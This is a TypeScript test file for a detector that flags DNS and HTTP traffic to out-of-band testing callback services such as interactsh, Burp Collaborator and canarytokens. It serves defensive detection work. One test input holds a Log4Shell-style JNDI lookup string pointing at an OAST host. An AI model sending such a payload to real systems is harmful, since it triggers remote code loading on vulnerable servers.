import { registeredDomain } from '../../domain';
import { observeEvent } from '../../observed-event';
import { batch, dnsEvent, httpEvent, T0 } from '../../testing/fixtures';
import type { ObservedEvent } from '../detection';
import { OastDomainDetector } from './oast-domain';
import { OAST_SERVICES } from './oast-services';

function dns(query: string): ObservedEvent {
  return observeEvent(batch('b1', 'dns', [dnsEvent(query, T0)]), 0)!;
}

function http(url: string): ObservedEvent {
  return observeEvent(batch('b2', 'http', [httpEvent(url, T0)]), 0)!;
}

describe('OastDomainDetector', () => {
  const detector = new OastDomainDetector();

  it('fires on a DNS query under an interactsh domain, keyed on the OAST registered domain', () => {
    const hit = detector.inspect(dns('c58bduhe008dovpvhvugcfemp9yyyyyyn.oast.pro.'));
    expect(hit).toBeDefined();
    expect(hit!.key).toBe('oast.pro');
    expect(hit!.weight).toBe(1);
    expect(hit!.wisdom).toEqual({ flags: ['oast'], labels: ['oast:interactsh'], domain: 'oast.pro' });
    expect(hit!.detection.threat).toBe('oast_interaction');
    expect(hit!.desc).toContain('DNS query for c58bduhe008dovpvhvugcfemp9yyyyyyn.oast.pro');
  });

  it.each([
    ['https://abc123.oastify.com/x?y=1', 'oastify.com', 'oast:burp-collaborator'],
    ['x.burpcollaborator.net/path', 'burpcollaborator.net', 'oast:burp-collaborator'],
    ['//Token.CanaryTokens.com/a', 'canarytokens.com', 'oast:canarytokens'],
    ['http://user:pw@abcd.dnslog.cn:8080/', 'dnslog.cn', 'oast:dnslog'],
  ])('fires on an HTTP request to %s', (url, key, label) => {
    const hit = detector.inspect(http(url));
    expect(hit?.key).toBe(key);
    expect(hit?.wisdom.labels).toEqual([label]);
    expect(hit?.desc).toMatch(/^HTTP request to /);
  });

  it('knows every listed service domain and keys each on itself', () => {
    for (const domain of Object.keys(OAST_SERVICES)) {
      expect(registeredDomain(domain)).toBe(domain);
      expect(detector.inspect(dns(`probe.${domain}`))?.key).toBe(domain);
    }
  });

  it.each(['oast.pro.example.com', 'notoast.pro', 'interact.sh.evil.net', 'example.com', '10.1.2.3'])('ignores %s', (name) => {
    expect(detector.inspect(dns(name))).toBeUndefined();
  });

  it.each(['oast.pro', 'www.oast.fun', 'oastify.com', 'bxss.me', 'https://canarytokens.org/generate'])(
    'ignores the service site itself (%s): a callback carries an id label',
    (name) => {
      const event = name.startsWith('https://') ? http(name) : dns(name);
      expect(detector.inspect(event)).toBeUndefined();
    },
  );

  it.each(['abc.m.pipedream.net', 'x.webhook.site'])('leaves webhook platforms with everyday uses alone (%s)', (name) => {
    expect(detector.inspect(dns(name))).toBeUndefined();
  });

  it('ignores HTTP URLs that only mention an OAST domain outside the host', () => {
    expect(detector.inspect(http('https://example.com/?q=${jndi:ldap://x.oast.pro/a}'))).toBeUndefined();
    expect(detector.inspect(http('not a url at all'))).toBeUndefined();
  });
});
